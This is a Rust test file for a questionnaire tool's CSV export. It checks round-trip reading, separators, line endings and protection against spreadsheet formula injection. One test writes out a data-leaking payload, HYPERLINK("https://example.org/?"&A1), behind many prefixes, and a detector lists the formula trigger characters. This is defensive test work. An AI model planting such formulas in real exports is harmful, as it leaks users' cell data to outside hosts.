//! The laws of the table for spreadsheets: another program reads from it what was written.

use boussole_core::answers::Response;
use boussole_core::export::Finished;
use boussole_core::export::csv::{Separator, table};
use boussole_core::report::Report;
use boussole_core::texts::{LazyText, Text};
use proptest::collection::vec;
use proptest::prelude::*;

use crate::export::{Worded, worded};
use crate::made::{SMALL, complete, questionnaire, sign};
use crate::widget_texts::WidgetTexts;

const COLUMNS: [LazyText; 9] = [
    LazyText::ExportColumnNumber,
    LazyText::ExportColumnItem,
    LazyText::ExportColumnPrinciple,
    LazyText::ExportColumnDimension,
    LazyText::ExportColumnQuestion,
    LazyText::ExportColumnLevel,
    LazyText::ExportColumnAnswer,
    LazyText::ExportColumnPoints,
    LazyText::ExportColumnRespondent,
];

/// The cells as the `csv` crate reads them.
pub fn read(table: &str, separator: Separator) -> Vec<Vec<String>> {
    let rows = read_by(table, separator.text().as_bytes()[0]);
    assert!(rows.iter().all(|row| row.len() == rows[0].len()), "each row has as many cells as the first");
    rows
}

/// The cells of a program that expects any separator.
fn read_by(table: &str, delimiter: u8) -> Vec<Vec<String>> {
    // The reader drops the mark.
    assert!(table.starts_with('\u{feff}'), "a table begins with the byte order mark");
    let mut reader = csv::ReaderBuilder::new();
    let reader = reader.has_headers(false).flexible(true).delimiter(delimiter);
    let mut reader = reader.from_reader(table.as_bytes());
    let rows = reader.records().map(|row| row.expect("a row is sound"));
    rows.map(|row| row.iter().map(str::to_owned).collect()).collect()
}

/// The cells that are meant.
fn meant(case: &Worded) -> Vec<Vec<String>> {
    let mut responses = case.answers.iter();
    let mut rows = vec![COLUMNS.map(|column| case.texts.lazy.get(column).to_owned()).to_vec()];
    for principle in &case.questionnaire.principles {
        for dimension in &principle.dimensions {
            for item in &dimension.items {
                let response = responses.next().expect("every item has one");
                let (text, points) = match response {
                    Response::Level(level) => {
                        (&*item.levels[level.index()], (25 * level.number()).to_string())
                    }
                    Response::DontKnow => (case.texts.first.get(Text::ItemDontKnow), String::new()),
                    Response::NotApplicable => (case.texts.first.get(Text::ItemNotApplicable), String::new()),
                };
                let (position, sign) = (rows.len().to_string(), sign(Some(response)).to_string());
                let role = case.role(item.respondent);
                let cells = [&position, item.id.as_str(), &principle.name, &dimension.name, &item.prompt];
                let cells = cells.into_iter().chain([&*sign, text, &*points, role]);
                rows.push(cells.map(str::to_owned).collect());
            }
        }
    }
    rows
}

/// Whether a spreadsheet would take a cell for a formula.
fn is_formula(cell: &str) -> bool {
    let is_dropped = |sign: char| sign.is_whitespace() || "\"\u{200b}\u{2060}\u{feff}".contains(sign);
    let visible = cell.trim_start_matches(is_dropped);
    visible.chars().count() > 1 && visible.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

/// The same, or whether it may drop the beginning of a cell.
fn runs(cell: &str) -> bool {
    is_formula(cell) || (cell.chars().count() > 1 && cell.starts_with(['\t', '\r', '\n']))
}

/// Whether a cell is a text as it is meant, with apostrophes only where a part of it would run.
pub fn is_guarded(cell: &str, meant: &str, is_first: bool) -> bool {
    let parts = meant.split([',', ';', '\t', '\r', '\n']);
    // A program that expects another separator reads a row from its first cell on.
    let is_run = runs(meant) || is_first && is_formula(&format!("{meant}x"));
    let is_sound = !is_run && parts.skip(1).all(|part| !is_formula(&format!("{part}x")));
    !runs(cell) && cell.replace('\'', "") == meant.replace('\'', "") && (cell == meant) == is_sound
}

/// Fails for a cell that is not guarded.
pub fn assert_guarded(rows: &[Vec<String>], meant: &[Vec<String>]) {
    for (row, meant) in rows.iter().zip(meant) {
        for (index, (cell, meant)) in row.iter().zip(meant).enumerate() {
            assert!(is_guarded(cell, meant, index == 0), "{cell:?} for {meant:?}");
        }
    }
}

proptest! {
    #[test]
    fn every_cell_is_read_as_it_is_meant_and_none_is_run(case in worded(), comma in any::<bool>()) {
        let separator = if comma { Separator::Comma } else { Separator::Semicolon };
        let rows = read(&table(&case.finished(), case.texts.export(), separator), separator);
        let expected = meant(&case);
        prop_assert_eq!(rows.iter().map(Vec::len).collect::<Vec<_>>(), expected.iter().map(Vec::len).collect::<Vec<_>>());
        assert_guarded(&rows, &expected);
    }

    #[test]
    fn a_spreadsheet_that_expects_another_separator_runs_nothing(
        texts in vec(".{0,3}[,;\t\r\n\"]{0,3} {0,2}[=+@-]?[=+@-]?.{0,4}", 3), comma in any::<bool>()
    ) {
        let separator = if comma { Separator::Comma } else { Separator::Semicolon };
        let questionnaire = questionnaire(SMALL);
        let answers = complete(&questionnaire, "0?4 1- 23");
        let report = Report::new(&questionnaire, &answers);
        let finished = Finished {
            questionnaire: &questionnaire, answers: &answers, report: &report, role: None, day: None,
        };
        let names = [Text::RoleLegal, Text::ItemDontKnow, Text::ItemNotApplicable];
        let named: Vec<(Text, &str)> = names.into_iter().zip(texts.iter().map(String::as_str)).collect();
        let table = table(&finished, WidgetTexts::named(&named, &[]).export(), separator);
        for delimiter in [b',', b';', b'\t'] {
            for cell in read_by(&table, delimiter).iter().flatten() {
                prop_assert!(!is_formula(cell), "{:?} by {:?} in {:?}", cell, char::from(delimiter), table);
            }
        }
    }

    #[test]
    fn lines_end_as_the_standard_says(case in worded()) {
        let table = table(&case.finished(), case.texts.export(), Separator::Comma);
        prop_assert!(table.ends_with("\r\n"));
    }
}

#[test]
fn no_text_is_run_whatever_stands_before_its_sign() {
    let questionnaire = questionnaire(SMALL);
    let answers = complete(&questionnaire, "0?4 1- 23");
    let report = Report::new(&questionnaire, &answers);
    let finished =
        Finished { questionnaire: &questionnaire, answers: &answers, report: &report, role: None, day: None };
    let attack = "HYPERLINK(\"https://example.org/?\"&A1)";
    for before in [
        "",
        " ",
        "\t",
        "\r",
        "\n",
        "\u{a0}",
        "\u{202f}",
        "\u{200b}",
        "\u{feff}",
        "\u{2060} ",
        "a,",
        "a;\"",
        "a\n ",
    ] {
        for sign in ["=", "+", "-", "@", "＝", "＋", "－", "＠"] {
            let text = [before, sign, attack].concat();
            let texts = WidgetTexts::named(&[(Text::RoleLegal, &text)], &[]);
            for separator in Separator::ALL {
                let rows = read(&table(&finished, texts.export(), separator), separator);
                let cell = &rows[1][8];
                assert!(cell != &text && is_guarded(cell, &text, false), "{text:?} is {cell:?}");
            }
        }
    }
}

#[test]
fn a_separator_is_the_chosen_one_or_that_of_the_language() {
    for separator in Separator::ALL {
        assert_eq!(Separator::read(separator.text()), Some(separator));
        assert_eq!(Separator::chosen(Some(separator), ","), separator);
        assert_eq!(Separator::chosen(None, separator.text()), separator);
    }
    for strange in ["", "|", ",,", "; ", "\t"] {
        assert_eq!((Separator::read(strange), Separator::chosen(None, strange)), (None, Separator::Comma));
    }
}

#[test]
fn a_table_is_what_a_spreadsheet_in_french_opens() {
    let questionnaire = questionnaire(SMALL);
    let answers = complete(&questionnaire, "0?4 1- 23");
    let report = Report::new(&questionnaire, &answers);
    let finished =
        Finished { questionnaire: &questionnaire, answers: &answers, report: &report, role: None, day: None };
    let heads =
        ["N°", "Repère", "Principe", "Dimension", "Question", "Réponse", "En clair", "Points", "Fonction"];
    let columns: Vec<(LazyText, &str)> = COLUMNS.into_iter().zip(heads).collect();
    let texts = WidgetTexts::named(
        &[
            (Text::ItemDontKnow, "Je ne sais pas"),
            (Text::ItemNotApplicable, "Sans objet ; « non »"),
            (Text::RoleLegal, "=juridique"),
        ],
        &columns,
    );
    let expected = "\u{feff}N°;Repère;Principe;Dimension;Question;Réponse;En clair;Points;Fonction\r\n\
        1;item-0;choose;;;0;level 0;0;'=juridique\r\n\
        2;item-1;choose;;;?;Je ne sais pas;;'=juridique\r\n\
        3;item-2;choose;;;4;level 4;100;'=juridique\r\n\
        4;item-3;master;;;1;level 1;25;'=juridique\r\n\
        5;item-4;master;;;-;\"Sans objet ; « non »\";;'=juridique\r\n\
        6;item-5;build;;;2;level 2;50;'=juridique\r\n\
        7;item-6;build;;;3;level 3;75;'=juridique\r\n";
    assert_eq!(table(&finished, texts.export(), Separator::Semicolon), expected);
}
